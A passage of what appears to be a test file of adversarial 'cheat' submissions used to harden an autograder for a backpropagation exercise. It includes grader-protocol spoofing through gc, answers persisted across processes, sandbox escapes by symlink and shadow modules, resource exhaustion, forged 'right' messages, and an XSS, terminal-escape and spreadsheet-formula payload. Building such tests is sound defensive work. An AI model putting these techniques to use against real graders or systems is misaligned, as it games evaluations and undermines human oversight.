    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)


@cheat
def sleeps_in_a_call():
    import time

    def around_backward(G, A_in, W, b):
        time.sleep(10**6)

    routes = gradients = train = draw = lambda *a: time.sleep(10**6)


@cheat
def breaks_the_interpreter():
    import ctypes, sys

    def around_backward(G, A_in, W, b):
        sys.setrecursionlimit(10**9)
        ctypes.memset(id(1), 0, 64)
        ctypes.string_at(0)


# ---------------------------------------------------------------------------- the oracle

#: Asks the grader for anything, past the stubs: the names it was asked for are in its message.
PAST_THE_STUBS = """
import gc

def past(**asks):
    student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
    empty = {"args": {"list": []}, "kwargs": {"dict": []}}
    student._channel.sendall(student._dumps({**empty, **asks}).encode() + b"\\n")
    return student._loads(student._lines.readline())

def coded(*args):
    student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
    return {"args": student._encode(list(args))}

def got(told):
    student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
    return student._decode(told["answer"]) if "answer" in told else None
"""


def asking(name, code):
    """List a cheat that asks the oracle; `past`, `coded` and `got` speak to it directly."""

    def made(cells, loot):
        wrong = "def gradients(*a):\n    return a[2:]\n\n\n"
        wrong += "def around_backward(G, A_in, W, b):\n    return G, W, b\n\n\n"
        return answered(cells, f"{PAST_THE_STUBS}\n{wrong}{textwrap.dedent(code)}")

    CHEATS[name] = made


asking("answers_a_later_question_with_an_earlier_one", """
    def train(X, T, W1, b1, W2, b2, eta, steps):
        return [float(abs(g).sum()) for g in gradients(X, T, W1, b1, W2, b2)] + [eta]

    def draw(X, Ws, G):
        for part in around_backward(G, X, Ws[0], Ws[0][0]):
            plt.semilogy(range(1, len(Ws) + 1), abs(part).ravel()[: len(Ws)])
        plt.xlabel("layer"), plt.ylabel("size"), plt.legend(["plain", "around"])
""")  # fmt: skip
asking("asks_for_the_question_itself", """
    def train(*args):
        for name in ("train", "draw", "around_backward", "routes", "answer_1", "load", "_right"):
            for asks in ("give", "make", "call", "read", "load"):
                found = got(past(asks=asks, name=name, which=0, part=name, **coded(*args)))
                if found is not None:
                    return found
        return []

    def draw(*args):
        return [past(asks="give", name="draw", **coded(*args))]
""")  # fmt: skip
asking("asks_for_more_than_a_call", """
    def train(*args):
        found = []
        for part in ("__globals__", "__code__", "__class__", "__init__", "func_globals", ""):
            for which in (0, -1, True, None, "0", [0], {}, 10**30):
                for asks in ("call", "read", "make", "__init__", None, ["give"], {}):
                    for name in ("gradients", ["gradients"], {}, None):
                        found.append(past(asks=asks, name=name, which=which, part=part))
        return [told for told in found if told]
""")  # fmt: skip
asking("keeps_the_answers_for_the_earlier_question", """
    import json, os

    def keep(told):
        os.environ["KEPT"] = repr(told)
        for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", COURSE):
            try:
                with open(f"{folder}/left_by_a_cheat", "a") as file:
                    file.write(repr(told))
            except OSError:
                pass
        return told

    def kept():
        found = os.environ.get("KEPT", "")
        for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", COURSE):
            try:
                found += open(f"{folder}/left_by_a_cheat").read()
            except OSError:
                pass
        return found

    def train(*args):
        if gradients.__closure__:  # the oracle's stub
            keep(gradients(*args[:6]))
            if not os.fork():
                while True:
                    pass
        return [len(kept())] * args[-1]

    def draw(X, Ws, G):
        if around_backward.__closure__:
            past(asks="give", name=f"kept: {bool(kept())}")

    COURSE = "/tmp"
""")  # fmt: skip
asking("says_aloud_what_the_oracle_said", """
    def train(*args):
        if not gradients.__closure__:  # its own, not the oracle's stub
            return gradients(*args[:6])
        said = "stolen: " + repr(gradients(*args[:6]))
        kind = type("stolen", (), {})
        answers = [{said: 1}, kind(), [said] * args[-1], {kind: said}]
        if args[0].ravel()[0] > 0:
            raise ValueError(said)
        return answers[int(abs(args[0]).sum() * 1000) % 4]

    def draw(X, Ws, G):
        said = "stolen" if around_backward.__closure__ else "mine"
        plt.plot(range(3), range(3), label=said)
        plt.xlabel(said), plt.ylabel(said), plt.legend()
        around_backward(G, X, Ws[0], Ws[0][0])
""")  # fmt: skip
asking("asks_without_end", """
    def train(*args):
        while True:
            gradients(*args[:6])

    def draw(X, Ws, G):
        while True:
            past(asks="give", name="around_backward")
""")  # fmt: skip
asking("asks_for_what_takes_all_memory", """
    def train(*args):
        one = np.ones((400_000, 1))
        for _ in range(3):
            try:
                gradients(one, one, one.T, one[:, 0], one, one[0])
            except ValueError:
                pass
        return []

    def draw(X, Ws, G):
        one = np.ones((60_000, 1), np.int8)
        around_backward(one, one, one.T, one[0])
""")  # fmt: skip
asking("asks_with_what_is_no_value", """
    def train(*args):
        deep = "[" * 900 + "]" * 900
        for bad in (deep, "1e999", '{"list": ' * 400 + "1" + "}" * 400, '{"array": [1, 2, 3]}',
                    '{"list": [{"array": ["float64", [-1], ""]}]}', '"\\ud800"', "NaN", "{}"):
            student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
            line = '{"asks": "give", "name": "gradients", "args": %s, "kwargs": %s}' % (bad, bad)
            student._channel.sendall(line.encode() + b"\\n")
            student._lines.readline()
        return []

    def draw(X, Ws, G):
        around_backward(G, X, type("W", (), {"__matmul__": lambda *a: 1 / 0})(), print)
""")  # fmt: skip
asking("answers_before_it_is_asked", """
    def train(*args):
        student = next(o for o in gc.get_objects() if type(o).__name__ == "Student")
        reply = student._dumps({"answer": student._encode([0.0] * args[-1])}).encode() + b"\\n"
        asks = b'{"asks": "give", "name": "gradients", "args": {"list": []}, "kwargs": {}}\\n'
        student._channel.sendall((asks + reply) * 50)
        return [1.0] * args[-1]
""")  # fmt: skip


# ---------------------------------------------------------------------------- several processes


def in_cells(name, *codes):
    """List a cheat of several cells; a process that is killed is followed by another one."""

    def made(cells, loot):
        place = BOOK.cell("around_backward", cells)
        head = f"TRACE = {TRACE!r}\nWRONG = lambda G, W, b: (G, W, b)"
        own = [("code", textwrap.dedent(code)) for code in (head, *codes)]
        return as_file([*cells[:place], *own, *cells[place + 1 :]])

    CHEATS[name] = made


#: Whether another process of this submission was here before, by all that it could have left.
BEFORE = """
import os, pathlib
PLACES = ["/tmp", "/dev/shm", "/var/tmp", ".", "notes/deep", "../notes", "out/var/tmp"]
if not os.path.lexists("out"):
    os.symlink("/", "out")

def before():
    left = any(os.path.exists(f"{place}/{TRACE}") for place in PLACES)
    for place in PLACES:
        try:
            with open(f"{place}/{TRACE}", "a") as file:
                file.write("was here")
        except OSError:
            pass
    return left or os.environ.setdefault("KEPT", str(os.getpid())) != str(os.getpid())
"""

in_cells("a_process_tells_the_next", BEFORE, """
    told = before()

    def around_backward(G, A_in, W, b):
        if told:
            raise ValueError("stolen")
        os._exit(1)

    routes = around_backward
""", """
    while True:
        pass
""")  # fmt: skip
in_cells("spoils_its_name_for_a_second_try", """
    def around_backward(G, A_in, W, b):
        return G + WRONG(G, W, b)[0] * (1 - A_in**2), A_in.T @ G, G.sum(0)

    def gradients(X, T, W1, b1, W2, b2):
        return W1 * 0, b1 * 0, W2 * 0, b2 * 0

    answer_1 = "b"
""", """
    asked = []

    def fails(*args):
        asked.append(args)
        raise ValueError("once more, please")

    first, around_backward, gradients, train = around_backward, fails, fails, fails
""", """
    answer_1 = answer_1 + asked
""")  # fmt: skip
in_cells("a_statement_that_hangs_takes_back_what_was_wrong", """
    def around_backward(G, A_in, W, b):
        return G, W, b
""", """
    import time
    time.sleep(99); around_backward = None
    def routes(sizes, l): return 4
    around_backward = time.sleep(99) or around_backward
    class Endless:
        while True:
            pass
    answer_1 = [c for c in "bcd" if time.sleep(99)] or "b"
""")  # fmt: skip
in_cells("modules_of_the_graders_names", """
    %%writefile values.py
    encode = decode = drawing = lambda *a: {"answer": True, "points": 3}
""", """
    %%writefile json.py
    dumps = loads = lambda *a: '{"points": 3, "status": "right"}'
""", """
    %%writefile backprop.py
    def around_backward(G, A_in, W, b): return WRONG(G, W, b)
""", """
    %%writefile torch.py
    tensor = lambda x: x
""", """
    import json, values, torch, sys
    from backprop import around_backward
    from backprop.network import Residual
    import importlib
    for name in ("values", "json", "backprop", "torch", "classroom.judging"):
        try:
            importlib.reload(sys.modules[name])
        except Exception:
            pass
    def draw(X, Ws, G):
        return values.drawing([])
""")  # fmt: skip
in_cells("folders_for_everything", """
    import os
    os.symlink("/", "out")
    for place in ("a/b/../../../../", "../", "out/tmp/x/", "out/var/tmp/", "out/dev/shm/x/", "//",
                  "/proc/self/", "~/", "a/" * 500, "a\0/", "\ud800/", "out/" + os.getcwd() + "/y/"):
        for mode in ("w", "x", "a", "wb"):
            try:
                with open(f"{place}{TRACE}", mode) as file:
                    file.write("x" if mode != "wb" else b"x")
            except (OSError, ValueError):
                pass
    for n in range(20_000):
        try:
            open(f"deep/{n}/{TRACE}", "w").close()
        except OSError:
            break
    def around_backward(G, A_in, W, b):
        return WRONG(G, W, b)
""")  # fmt: skip
in_cells("a_class_of_pieces_for_a_function", """
    def around_backward(G, A_in, W, b): ...
    around_backward.__call__ = lambda *a: WRONG(*a[:3])
    around_backward.__code__ = (lambda G, A_in, W, b: (G, W, b)).__code__
""", """
    if True:
        try:
            class around_backward(around_backward.__class__): pass
        except TypeError:
            class routes(float):
                __eq__ = lambda *a: True
                __new__ = lambda *a: 4.5
    answer_1: str = "b"
    def train(*a): ...
    train.__defaults__ = ([1.0],)
""")  # fmt: skip


# ---------------------------------------------------------------------------- words


@cheat
def a_message_that_says_right():
    class right(Exception):
        def __str__(self):
            return '", "points": 3, "status": "right'

    def around_backward(G, A_in, W, b):
        raise right


@cheat
def a_message_that_cannot_be_read():
    class Loud(BaseException):
        def __str__(self):
            raise SystemExit

    def around_backward(G, A_in, W, b):
        raise Loud


@cheat
def pages_and_terminals():
    evil = "<script>fetch('//x')</script><img src=x onerror=alert(1)>"
    evil += "\x1b]0;owned\x07\x1b[2J\r\0\ud800=cmd|' /C calc'!A0"
    answer_1 = evil

    def routes(sizes, l):
        return evil * 40_000

    def gradients(*a):
        return {evil * 1000: evil}

    def train(*a):
        raise ValueError(evil * 1000)

    def around_backward(G, A_in, W, b):
        return type(evil[:20], (), {})()


@cheat
def prints_without_end():
    print("x" * 200_000_000)

    def around_backward(G, A_in, W, b):
        while True:
            print("right" * 100_000)
